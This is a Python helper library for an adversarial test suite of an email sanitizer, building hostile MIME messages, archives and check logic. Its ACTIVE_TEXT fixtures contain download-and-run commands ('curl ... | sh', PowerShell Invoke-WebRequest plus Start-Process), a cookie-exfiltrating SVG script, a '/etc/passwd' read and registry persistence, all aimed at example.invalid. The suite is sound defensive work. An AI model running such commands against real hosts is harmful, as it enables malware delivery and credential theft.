"""hostile.py - shared library of the adversarial suite (issue 12).

Three users, one module (see README.md for the contract):

  gen_*.py     build messages with the helpers below and write each case
               as NAME.eml + NAME.expect.json through `Suite`;
  checks_*.py  register named checks with the `@check` decorator;
  check.py     runs every case through `mugaika sanitize --report`, builds
               a `Ctx` (the delivered bytes re-parsed, every leaf and every
               archive member re-typed with libmagic through file(1)) and
               runs the checks named by the case plus every default check.

Python standard library only.  Hostile content is built here at run time:
the EICAR string from pieces, archives with zipfile/tarfile or by hand
(RAR, TNEF), every "script" is inert text aimed at example.invalid.
"""
import base64
import email
import email.header
import email.policy
import io
import json
import os
import quopri
import re
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

SENDER = "sender@hostile.example.net"
RCPT = "staff@city.example.lg.jp"
ENVELOPE = ["--mail-from", SENDER, "--rcpt", RCPT, "--client-ip", "127.0.0.1", "--helo", "sender.example.net"]

# ---------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------


def eicar():
    """The 68-byte EICAR test string, assembled here (never stored whole)."""
    s = "".join(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-", "FILE!$H+H*"])
    assert len(s) == 68
    return s.encode("ascii")


EICAR_TAIL = b"ANTIVIRUS-TEST-" + b"FILE"  # what the no_eicar check looks for

def png_image(w=4, h=4, claim=None):
    """A valid RGB PNG (chunk CRCs computed); claim=(W, H) writes those
    dimensions in IHDR over the w x h pixels (a pixel bomb's header)."""
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + b"".join(bytes((x * 40 % 256, y * 40 % 256, 128)) for x in range(w)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", *(claim or (w, h)), 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


# Passive files that must survive: a small PNG and a small valid PDF.
PNG = png_image()


def pdf_doc(text="Hello PDF"):
    """A small valid PDF (xref offsets computed) showing `text`."""
    stream = b"BT /F1 12 Tf 72 712 Td (" + text.encode("latin-1") + b") Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return bytes(out)


def _enc_body(data, cte):
    if cte == "base64":
        return base64.encodebytes(data)
    if cte == "quoted-printable":
        return quopri.encodestring(data)
    return data if data.endswith(b"\n") or not data else data + b"\n"


def _b(s):
    return s if isinstance(s, bytes) else s.encode("utf-8")


def leaf(ctype, data, filename=None, disposition=None, cte="base64", name=None, headers=(), raw=None):
    """One MIME leaf as bytes: header block, blank line, encoded body.

    ctype        full Content-Type value ("text/plain; charset=utf-8"), or None for no field
    filename     goes into Content-Disposition (disposition defaults to attachment)
    name         a Content-Type name= parameter
    disposition  "inline", "attachment", or a raw value
    cte          base64 | quoted-printable | 7bit | 8bit | None (no field, body as is)
    headers      extra raw header lines
    raw          the body bytes exactly as given (no encoding)
    """
    h = []
    if ctype is not None:
        ct = ctype
        if name is not None:
            ct += '; name="%s"' % name
        h.append("Content-Type: " + ct)
    if filename is not None or disposition is not None:
        d = disposition or "attachment"
        if filename is not None:
            d += '; filename="%s"' % filename
        h.append("Content-Disposition: " + d)
    if cte:
        h.append("Content-Transfer-Encoding: " + cte)
    h.extend(headers)
    body = raw if raw is not None else _enc_body(_b(data), cte)
    return _b("\n".join(h)) + b"\n\n" + body


def text(s, ctype="text/plain; charset=utf-8", cte="8bit", **kw):
    """A text leaf (body text by default)."""
    return leaf(ctype, _b(s), cte=cte, **kw)


def multipart(subtype, parts, boundary=None, params="", preamble=b"", epilogue=b"", close=True, ctype=None):
    """A multipart entity; `ctype` replaces the whole Content-Type value."""
    b = boundary if boundary is not None else "hb-%s-%d" % (subtype.replace("/", "-"), len(parts))
    ct = ctype if ctype is not None else 'multipart/%s; boundary="%s"%s' % (subtype, b, params)
    out = b"Content-Type: " + _b(ct) + b"\n\n" + _b(preamble)
    for p in parts:
        out += b"--" + _b(b) + b"\n" + p
        if not out.endswith(b"\n"):
            out += b"\n"
    if close:
        out += b"--" + _b(b) + b"--\n"
    return out + _b(epilogue)


def message(entity, msgid, subject=None, headers=(), mime_version=True):
    """A whole message: our envelope-ish header fields, then the entity's."""
    h = ["From: Hostile Sender <%s>" % SENDER, "To: <%s>" % RCPT,
         "Subject: " + (subject or "hostile " + msgid), "Date: Mon, 30 Nov 2026 09:00:00 +0900",
         "Message-ID: <%s>" % msgid]
    if mime_version:
        h.append("MIME-Version: 1.0")
    h.extend(headers)
    return _b("\n".join(h)) + b"\n" + entity


def inner_message(entity, subject="inner", msgid="inner@hostile.example.net"):
    """A message to attach (message/rfc822)."""
    return message(entity, msgid, subject=subject)


def rfc822(inner, cte=None, filename=None, ctype="message/rfc822", disposition=None):
    return leaf(ctype, inner, filename=filename, cte=cte, disposition=disposition)


def zip_bytes(members, method=zipfile.ZIP_DEFLATED):
    """members: [(name, bytes)]; a name given as bytes is stored raw, without
    the UTF-8 flag (what Japanese Windows tools write: CP932 names)."""
    buf = io.BytesIO()
    raw_names = []
    with zipfile.ZipFile(buf, "w", method) as z:
        for i, (name, data) in enumerate(members):
            if isinstance(name, bytes):  # an ASCII stand-in of the same length, patched below
                stand = ("~%d~" % i).ljust(len(name), "~")
                raw_names.append((stand.encode("ascii"), name))
                name = stand
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 30, 9, 0, 0))
            zi.compress_type = method
            z.writestr(zi, _b(data))
    out = buf.getvalue()
    for stand, raw in raw_names:
        out = out.replace(stand, raw)
    return out


def tar_bytes(members, gz=False):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w", format=tarfile.GNU_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 1796000000
            t.addfile(ti, io.BytesIO(_b(data)))
    return buf.getvalue()


def gzip_bytes(data, name="file"):
    import gzip
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=1796000000) as g:
        g.write(_b(data))
    return buf.getvalue()


def _crc16(data):
    return zlib.crc32(data) & 0xFFFF


def rar4(members, encrypted_headers=False):
    """A RAR 1.5-4.x archive with stored (uncompressed) members: the
    marker block, the main header, one file header + data per member, the
    end block.  Written by hand: RAR is a non-free format with no writer
    in the standard library; libarchive reads this layout."""
    out = bytearray(b"Rar!\x1a\x07\x00")
    flags = 0x0080 if encrypted_headers else 0
    body = struct.pack("<BHH", 0x73, flags, 13) + b"\0" * 6
    out += struct.pack("<H", _crc16(body)) + body
    for name, data in members:
        data = _b(data)
        nb = _b(name)
        fflags = 0x8000  # LONG_BLOCK: ADD_SIZE present
        if not isinstance(name, bytes) and any(ord(c) > 127 for c in name):
            fflags |= 0x0200  # FHD_UNICODE: name is "ascii\0unicode"; use UTF-8 bytes only
        hsize = 32 + len(nb)
        fields = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data) & 0xFFFFFFFF,
                             0x5A7E0000, 29, 0x30, len(nb), 0x20) + nb
        hdr = struct.pack("<BHH", 0x74, fflags, hsize) + fields
        out += struct.pack("<H", _crc16(hdr)) + hdr + data
    end = struct.pack("<BHH", 0x7B, 0x4000, 7)
    out += struct.pack("<H", _crc16(end)) + end
    return bytes(out)


def _vint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def rar5(members):
    """A RAR 5.0 archive with stored members (hand-written, see rar4)."""
    out = bytearray(b"Rar!\x1a\x07\x01\x00")

    def block(htype, hflags, fields, extra=b"", data_size=None):
        body = _vint(htype) + _vint(hflags)
        if hflags & 0x01:
            body += _vint(len(extra))
        if hflags & 0x02:
            body += _vint(data_size)
        body += fields + extra
        hdr = _vint(len(body)) + body
        return struct.pack("<I", zlib.crc32(hdr) & 0xFFFFFFFF) + hdr

    out += block(1, 0, _vint(0))
    for name, data in members:
        data = _b(data)
        nb = _b(name)
        fields = (_vint(0x04) + _vint(len(data)) + _vint(0x20) + struct.pack("<I", zlib.crc32(data) & 0xFFFFFFFF)
                  + _vint(0) + _vint(0) + _vint(len(nb)) + nb)
        # file flags 0x04: CRC32 present; compression info 0 = version 0, stored; host OS 0 (Windows)
        out += block(2, 0x02, fields, data_size=len(data)) + data
    out += block(5, 0, _vint(0))
    return bytes(out)


def tnef(attachments, body=None):
    """A TNEF stream (winmail.dat, MS-OXTNEF) carrying `attachments`
    [(filename, bytes)] as attRenddata/attAttachTitle/attAttachData, and
    an optional plain-text body (attBody)."""

    def attr(level, aid, atype, data):
        ident = (atype << 16) | aid
        return struct.pack("<BII", level, ident, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = bytearray(struct.pack("<IH", 0x223E9F78, 0x0102))
    out += attr(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += attr(1, 0x9007, 0x0001, b"1252\0\0\0\0")  # attOemCodepage
    out += attr(1, 0x8008, 0x0001, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    if body is not None:
        out += attr(1, 0x800C, 0x0002, _b(body))  # attBody
    for name, data in attachments:
        rend = struct.pack("<HIIHHI", 1, 0xFFFFFFFF, 0, 0, 0, 0)
        out += attr(2, 0x9002, 0x0006, rend)  # attAttachRenddata
        out += attr(2, 0x8010, 0x0001, _b(name) + b"\0")  # attAttachTitle
        out += attr(2, 0x800F, 0x0006, _b(data))  # attAttachData
    return bytes(out)


def encrypted_zip_bytes(name="secret.txt", data=b"secret"):
    """The shape of a ZipCrypto-encrypted zip (flag bit 0, 12-byte header):
    what a PPAP mail carries.  The payload is not really encrypted; every
    reader refuses it without the password all the same."""
    data = _b(data)
    payload = bytes(range(12)) + bytes(b ^ 0x5A for b in data)
    crc = zlib.crc32(data) & 0xFFFFFFFF
    nb = _b(name)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0001, 0, 0, 0, crc, len(payload), len(data), len(nb), 0)
    cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x0001, 0, 0, 0, crc, len(payload), len(data),
                     len(nb), 0, 0, 0, 0, 0, 0)
    body = local + nb + payload
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd) + len(nb), len(body), 0)
    return body + cd + nb + end


# ---------------------------------------------------------------------------
# Writing cases
# ---------------------------------------------------------------------------


class Suite:
    """Collects the cases of one generator and writes them to OUTDIR:

        s = Suite("gen_names")
        s.case("inline-hta", "1-inline-name", "why it is hostile", msg_bytes,
               checks=[("inert", {"pattern": "<script"})], config={"key": "value"})
        s.main()   # OUTDIR from argv[1]

    The case name must be unique within the generator (the runner puts
    every generator in its own directory); the message must carry the
    Message-ID <NAME@hostile.example.net> (message() does when built with
    msgid=s.msgid(NAME)), which names the case in logs and quarantine."""

    def __init__(self, generator):
        self.generator = generator
        self.cases = []

    @staticmethod
    def msgid(name):
        return "%s@hostile.example.net" % name

    def case(self, name, family, title, msg, checks=(), config=None, verdict=None):
        if not re.match(r"^[a-z0-9][a-z0-9._-]*$", name):
            raise ValueError("bad case name %r" % name)
        if any(c["name"] == name for c, _ in self.cases):
            raise ValueError("duplicate case %s" % name)
        if not msg.endswith(b"\n"):  # SMTP ends every message with a line break
            msg += b"\n"
        if b"<" + _b(self.msgid(name)) + b">" not in msg:
            raise ValueError("case %s: message lacks Message-ID <%s>" % (name, self.msgid(name)))
        cl = []
        for c in checks:  # "name", ("name", {args}) or {"check": "name", ...}
            if isinstance(c, str):
                cl.append({"check": c})
            elif isinstance(c, dict):
                cl.append(dict(c))
            else:
                cl.append({"check": c[0], **c[1]})
        exp = {"name": name, "generator": self.generator, "family": family, "title": title,
               "message_id": self.msgid(name), "config": config or {}, "checks": cl}
        if verdict:
            exp["checks"].insert(0, {"check": "verdict", "is": verdict})
        self.cases.append((exp, msg))

    def main(self, argv=None):
        argv = argv if argv is not None else sys.argv
        if len(argv) != 2:
            print("usage: %s OUTDIR" % os.path.basename(argv[0]), file=sys.stderr)
            return 64
        out = argv[1]
        os.makedirs(out, exist_ok=True)
        for exp, msg in self.cases:
            with open(os.path.join(out, exp["name"] + ".eml"), "wb") as f:
                f.write(msg)
            with open(os.path.join(out, exp["name"] + ".expect.json"), "w") as f:
                json.dump(exp, f, indent=1, ensure_ascii=False)
        return 0


# ---------------------------------------------------------------------------
# Checks
# ---------------------------------------------------------------------------

CHECKS = {}


def check(name, default=False, when=("accept",)):
    """Register a check.  fn(ctx, **args) returns a list of problems (empty:
    pass).  default=True: run on every case whose verdict is in `when`
    (unless the case lists it in "skip_default"); otherwise only when a case
    names it.  Names are global: prefix them with the plugin's subject."""

    def deco(fn):
        if name in CHECKS:
            raise ValueError("check %s registered twice" % name)
        CHECKS[name] = {"fn": fn, "default": default, "when": tuple(when), "doc": (fn.__doc__ or "").strip()}
        return fn

    return deco


def magic_types(blobs):
    """libmagic's MIME type (file -b --mime-type) for each of `blobs`."""
    if not blobs:
        return []
    with tempfile.TemporaryDirectory(prefix="hostile-magic.") as d:
        paths = []
        for i, b in enumerate(blobs):
            p = os.path.join(d, "%d" % i)
            with open(p, "wb") as f:
                f.write(b)
            paths.append(p)
        r = subprocess.run(["file", "-b", "--mime-type", "--"] + paths, stdout=subprocess.PIPE, check=True)
    lines = r.stdout.decode("utf-8", "replace").splitlines()
    if len(lines) != len(blobs):
        raise RuntimeError("file(1) returned %d lines for %d files" % (len(lines), len(blobs)))
    return [x.strip().lower() for x in lines]


def _decode_words(s):
    if s and "=?" in s:
        try:
            return str(email.header.make_header(email.header.decode_header(s)))
        except Exception:
            return s
    return s


class File:
    """A delivered file: a MIME leaf or an archive member (any depth).

    kind       "leaf" or "member"
    path       "1.2" for leaves ("1.2/inner.zip/x.txt" for members)
    ctype      delivered Content-Type (leaves; None for members), lower case
    params     Content-Type parameters (leaves), lower-case keys
    filename   delivered file name (decoded), or None
    disposition "inline" / "attachment" / None
    data       the decoded bytes
    magic      libmagic's type of `data` (filled by Delivered.type_all)
    body       True for a top-level text leaf without a name (body/notice text)
    parent     the File that contains a member, else None
    """

    def __init__(self, kind, path, data, ctype=None, params=None, filename=None, disposition=None, parent=None,
                 body=False):
        self.kind, self.path, self.data = kind, path, data
        self.ctype, self.params = ctype, params or {}
        self.filename, self.disposition, self.parent, self.body = filename, disposition, parent, body
        self.magic = None
        self.headers, self.disp_params = [], {}
        self.opened = False  # an archive whose members were read (they are Files of their own)
        self.msg_root = False  # the leaf is the whole body of a message: the message's fields are its own
        self.utf8_flag = True

    def ext(self):
        n = (self.filename or "").replace("\\", "/").rsplit("/", 1)[-1]
        return n.rsplit(".", 1)[1].lower() if "." in n.strip(".") else ""

    def text(self):
        cs = self.params.get("charset") or "utf-8"
        try:
            return self.data.decode(cs, "replace")
        except LookupError:
            return self.data.decode("utf-8", "replace")

    def describe(self):
        sent = "" if self.kind == "member" else "sent as %s, " % self.ctype
        return "%s %s (%s, %slibmagic %s)" % (self.kind, self.path, self.filename or "no name", sent, self.magic)


ZIP_MAX_DEPTH = 6


class Delivered:
    """The delivered message re-parsed with Python's email package; every
    leaf decoded, zip attachments opened (members of members too)."""

    def __init__(self, raw):
        self.raw = raw
        self.msg = email.message_from_bytes(raw, policy=email.policy.compat32)
        self.leaves, self.members, self.containers = [], [], []
        self.defects = []
        self._walk(self.msg, "", 0, top=True, msg_root=True)
        for f in list(self.leaves):
            if self._is_zip(f):
                self._unzip(f, 1)

    def _walk(self, part, path, depth, top, msg_root=False):
        self.defects.extend(str(d) for d in getattr(part, "defects", []))
        ctype = part.get_content_type().lower()
        if part.is_multipart():
            self.containers.append((path or "0", ctype))
            for i, sub in enumerate(part.get_payload()):
                # message/rfc822 payload is a list of one message: same path
                sp = path if ctype.startswith("message/") else ("%s.%d" % (path, i + 1) if path else str(i + 1))
                self._walk(sub, sp or "1", depth + 1, top and ctype.startswith("multipart/"),
                           msg_root=ctype.startswith("message/"))
            return
        data = part.get_payload(decode=True) or b""
        params = {k.lower(): v for k, v in (part.get_params() or [])[1:]}
        fn = _decode_words(part.get_filename())
        disp = part.get_content_disposition()
        is_body = top and ctype == "text/plain" and fn is None and disp != "attachment"
        f = File("leaf", path or "1", data, ctype, params, fn, disp, body=is_body)
        f.headers = [(k, str(v)) for k, v in part.items()]
        f.msg_root = msg_root
        f.disp_params = {k.lower(): v for k, v in (part.get_params(header="content-disposition") or [])[1:]}
        self.leaves.append(f)

    @staticmethod
    def _is_zip(f):
        return f.data[:4] == b"PK\x03\x04" and (f.ctype in ("application/zip", "application/x-zip-compressed")
                                                  or f.ext() == "zip")

    def _unzip(self, parent, depth):
        if depth > ZIP_MAX_DEPTH:
            return
        try:
            z = zipfile.ZipFile(io.BytesIO(parent.data))
            infos = z.infolist()
        except Exception as e:
            self.defects.append("cannot open zip %s: %s" % (parent.path, e))
            return
        parent.opened = True
        for zi in infos:
            if zi.is_dir():
                continue
            try:
                data = z.read(zi)
            except Exception as e:
                self.defects.append("cannot read member %s of %s: %s" % (zi.filename, parent.path, e))
                continue
            m = File("member", "%s/%s" % (parent.path, zi.filename), data, filename=zi.filename, parent=parent)
            m.utf8_flag = bool(zi.flag_bits & 0x800)
            self.members.append(m)
            if data[:4] == b"PK\x03\x04" and m.ext() == "zip":
                self._unzip(m, depth + 1)

    def files(self):
        return self.leaves + self.members

    def type_all(self):
        fs = self.files()
        for f, t in zip(fs, magic_types([f.data for f in fs])):
            f.magic = t

    def header(self, name):
        v = self.msg.get(name)
        return _decode_words(v) if v is not None else None


class Ctx:
    """What a check sees about one case.

    name, case (the expect.json dict), mode ("sanitize" | "fullstack")
    input        the message as sent (bytes)
    rc           exit status of `mugaika sanitize` (0 accept, 77 reject, 75 tempfail)
    verdict      "accept" | "reject" | "tempfail" | "error" | "timeout"
    smtp         "550 5.7.1 reason" style reply for refusals (from the report / Postfix)
    report       the --report JSON (dict) or None
    out          the delivered bytes (b"" when not accepted)
    delivered    Delivered(out) or None
    stderr       the command's standard error
    """

    def __init__(self, name, case, mode, input_bytes, rc, report, out, stderr, smtp=None):
        self.name, self.case, self.mode = name, case, mode
        self.input, self.rc, self.report, self.out, self.stderr = input_bytes, rc, report, out, stderr
        self.verdict = {0: "accept", 77: "reject", 75: "tempfail", -9: "timeout"}.get(rc, "error")
        self.smtp = smtp
        if smtp is None and report:
            self.smtp = "%s %s %s" % (report.get("smtp_code"), report.get("enhanced_code"), report.get("reason"))
        self.delivered = None
        if self.verdict == "accept":
            self.delivered = Delivered(out)
            self.delivered.type_all()

    def files(self):
        return self.delivered.files() if self.delivered else []

    def body_text(self):
        """Text of the body leaves (the notice lives there, or in a part of its own)."""
        if not self.delivered:
            return ""
        return "\n".join(f.text() for f in self.delivered.leaves if f.body)

    def report_parts(self):
        return (self.report or {}).get("parts") or []


# ---------------------------------------------------------------------------
# Text that runs or opens something (issue 12, families 1-3).  Each entry:
# ext, the type a sender would declare, the content (inert: it points at
# example.invalid or names a harmless program), the marker that must not be
# delivered in an active form, and `strict`: True for the formats that must
# never be kept as text at all (removed, or converted to inert text);
# False for classic scripts, which may also arrive renamed to NAME.txt.
# ---------------------------------------------------------------------------

def _at(ext, ctype, data, marker, strict):
    return {"ext": ext, "ctype": ctype, "data": data.replace("\n", "\r\n").encode("utf-8"), "marker": marker,
            "strict": strict}


ACTIVE_TEXT = [
    _at("hta", "application/hta", '<html><head><HTA:APPLICATION id="inv"/><script language="VBScript">\n'
        'CreateObject("WScript.Shell").Run "calc"\n</script></head><body>Invoice</body></html>\n',
        "WScript.Shell", False),
    _at("js", "application/javascript", 'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c echo hostile");\n',
        "ActiveXObject", False),
    _at("jse", "application/javascript", 'new ActiveXObject("WScript.Shell").Run("calc");\n', "ActiveXObject", False),
    _at("vbs", "text/vbscript", 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo hostile"\n',
        "CreateObject", False),
    _at("vbe", "text/vbscript", 'CreateObject("WScript.Shell").Run "calc"\n', "CreateObject", False),
    _at("wsf", "application/x-wsh", '<job id="x"><script language="JScript">\nnew ActiveXObject("WScript.Shell")'
        '.Run("calc");\n</script></job>\n', "ActiveXObject", False),
    _at("wsh", "application/x-wsh", "[ScriptFile]\nPath=\\\\files.example.invalid\\s\\run.vbs\n[Options]\nTimeout=0\n",
        "run.vbs", False),
    _at("sct", "text/scriptlet", '<?XML version="1.0"?>\n<scriptlet><registration progid="x"/>\n<script language='
        '"JScript"><![CDATA[new ActiveXObject("WScript.Shell").Run("calc");]]></script></scriptlet>\n',
        "ActiveXObject", False),
    _at("bat", "application/x-bat", '@echo off\npowershell -nop -w hidden -c "iwr http://dl.example.invalid/x"\n',
        "powershell -nop", False),
    _at("cmd", "application/x-bat", '@echo off\nstart /b cmd /c "curl http://dl.example.invalid/x"\n',
        "start /b cmd", False),
    _at("ps1", "application/x-powershell", "Invoke-WebRequest http://dl.example.invalid/p -OutFile $env:TEMP\\p.exe\n"
        "Start-Process $env:TEMP\\p.exe\n", "Start-Process", False),
    _at("psm1", "application/x-powershell", "function Invoke-X { Start-Process calc }\n", "Start-Process", False),
    _at("reg", "text/x-ms-regedit", 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\'
        'Microsoft\\Windows\\CurrentVersion\\Run]\n"x"="cmd /c calc"\n', "CurrentVersion\\Run", False),
    _at("inf", "application/octet-stream", '[Version]\nSignature="$CHICAGO$"\n[DefaultInstall]\n'
        "RunPreSetupCommands=cmd /c calc\n", "RunPreSetupCommands", False),
    _at("sh", "application/x-sh", "#!/bin/sh\ncurl -s http://dl.example.invalid/x | sh\n", "dl.example.invalid/x | sh",
        False),
    _at("py", "text/x-python", 'import os\nos.system("calc")\n', "os.system", False),
    # the formats of family 3: never kept as text
    _at("svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">\n'
        "<script>fetch('http://x.example.invalid/'+document.cookie)</script></svg>\n", "document.cookie", True),
    _at("xhtml", "application/xhtml+xml", '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        "<p>Invoice</p><script>document.location='http://x.example.invalid/'</script></body></html>\n",
        "document.location", True),
    _at("xht", "application/xhtml+xml", '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        "<p>Invoice</p><script>document.location='http://x.example.invalid/'</script></body></html>\n",
        "document.location", True),
    _at("shtml", "text/html", '<html><body><!--#exec cmd="cat /etc/passwd" --><p>Invoice</p>'
        "<script>document.location='http://x.example.invalid/'</script></body></html>\n", "document.location", True),
    _at("mhtml", "message/rfc822", 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="mh"\n\n--mh\n'
        "Content-Type: text/html\nContent-Location: file:///C:/x.htm\n\n<html><body><p>Invoice</p><script>"
        'new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>\n--mh--\n', "ActiveXObject", True),
    _at("mht", "message/rfc822", 'MIME-Version: 1.0\nContent-Type: text/html\n\n<html><body><p>Invoice</p><script>'
        'new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>\n', "ActiveXObject", True),
    _at("iqy", "text/x-ms-iqy", 'WEB\n1\nhttp://data.example.invalid/q?x=["a"]\n', "data.example.invalid/q", True),
    _at("slk", "application/x-sylk", 'ID;P\nC;Y1;X1;K0;ECALL("Kernel32","WinExec","JCJ","calc",0)\nE\n', "ECALL(",
        True),
    _at("scf", "application/octet-stream", "[Shell]\nCommand=2\nIconFile=\\\\files.example.invalid\\share\\x.ico\n"
        "[Taskbar]\nCommand=ToggleDesktop\n", "files.example.invalid\\share", True),
    _at("msc", "application/octet-stream", '<?xml version="1.0"?>\n<MMC_ConsoleFile ConsoleVersion="3.0"><StringTables>'
        '<StringTable><Strings><String ID="1">res://apds.dll/redirect.html?target=javascript:eval(1)</String>'
        "</Strings></StringTable></StringTables></MMC_ConsoleFile>\n", "redirect.html?target=javascript", True),
    _at("settingcontent-ms", "application/octet-stream", '<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings>'
        '<SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation>'
        "<AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>"
        "<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent>"
        "</PCSettings>\n", "DeepLink>", True),
    _at("library-ms", "application/octet-stream", '<?xml version="1.0" encoding="UTF-8"?>\n<libraryDescription '
        'xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
        "<searchConnectorDescription><simpleLocation><url>\\\\files.example.invalid\\share</url></simpleLocation>"
        "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n",
        "files.example.invalid\\share", True),
    _at("searchconnector-ms", "application/octet-stream", '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector">'
        "<simpleLocation><url>http://files.example.invalid/drop/</url></simpleLocation></searchConnectorDescription>\n",
        "files.example.invalid/drop", True),
    _at("appinstaller", "application/appinstaller", '<?xml version="1.0" encoding="utf-8"?>\n<AppInstaller xmlns='
        '"http://schemas.microsoft.com/appx/appinstaller/2018" Uri="https://dl.example.invalid/a.appinstaller" '
        'Version="1.0.0.0"><MainBundle Name="x" Publisher="CN=x" Version="1.0.0.0" '
        'Uri="https://dl.example.invalid/x.msixbundle"/></AppInstaller>\n', "x.msixbundle", True),
    _at("jnlp", "application/x-java-jnlp-file", '<?xml version="1.0" encoding="utf-8"?>\n<jnlp spec="1.0+" '
        'codebase="http://dl.example.invalid/"><resources><jar href="x.jar"/></resources>'
        '<application-desc main-class="X"/></jnlp>\n', "application-desc", True),
    _at("desktop", "application/x-desktop", "[Desktop Entry]\nType=Application\nName=Invoice\n"
        'Exec=sh -c "curl http://dl.example.invalid/x | sh"\n', "curl http://dl.example.invalid", True),
    _at("rdp", "application/x-rdp", "full address:s:rdp.example.invalid\nredirectdrives:i:1\ndrivestoredirect:s:*\n"
        "remoteapplicationmode:i:1\n", "rdp.example.invalid", True),
    _at("application", "application/x-ms-application", '<?xml version="1.0" encoding="utf-8"?>\n<asmv1:assembly '
        'xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><deployment install="false">'
        '<deploymentProvider codebase="http://dl.example.invalid/x.application"/></deployment></asmv1:assembly>\n',
        "deploymentProvider", True),
    _at("appref-ms", "application/octet-stream", "http://dl.example.invalid/x.application#x.application, "
        "Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil\n", "dl.example.invalid/x.app",
        True),
    _at("url", "application/internet-shortcut", "[InternetShortcut]\nURL=file://files.example.invalid/share/run.exe\n"
        "IconIndex=0\n", "files.example.invalid/share/run", True),
    _at("website", "application/x-mswebsite", "[{000214A0-0000-0000-C000-000000000046}]\nProp3=19,2\n"
        "[InternetShortcut]\nURL=file://files.example.invalid/share/run.exe\n", "files.example.invalid/share/run",
        True),
    _at("theme", "application/x-theme", "[Theme]\nDisplayName=Corporate\n[VisualStyles]\n"
        "Path=\\\\files.example.invalid\\share\\aero.msstyles\n", "aero.msstyles", True),
    _at("htc", "text/x-component", '<PUBLIC:COMPONENT><PUBLIC:ATTACH EVENT="oncontentready" ONEVENT="x()"/>'
        '<SCRIPT>function x(){new ActiveXObject("WScript.Shell")}</SCRIPT></PUBLIC:COMPONENT>\n', "ActiveXObject",
        True),
    _at("xsl", "text/xsl", '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/'
        'XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="u"><msxsl:script language="JScript" '
        'implements-prefix="user">new ActiveXObject("WScript.Shell")</msxsl:script></xsl:stylesheet>\n',
        "msxsl:script", True),
    _at("xml", "text/xml", '<?xml version="1.0"?>\n<root><html:script xmlns:html="http://www.w3.org/1999/xhtml">'
        "document.location='http://x.example.invalid/'</html:script></root>\n", "document.location", True),
    _at("ps1xml", "application/octet-stream", "<Types><Type><Name>System.Object</Name><Members><ScriptMethod><Name>x"
        "</Name><Script>Start-Process calc</Script></ScriptMethod></Members></Type></Types>\n", "Start-Process", True),
    _at("ins", "application/x-internet-signup", "[Entry]\nEntry_Name=x\n[Custom]\nRun=cmd.exe /c calc\n",
        "Run=cmd.exe", True),
    _at("html", "text/html", "<html><body><p>Invoice</p><script>document.location='http://x.example.invalid/'"
        "</script></body></html>\n", "document.location", True),
]
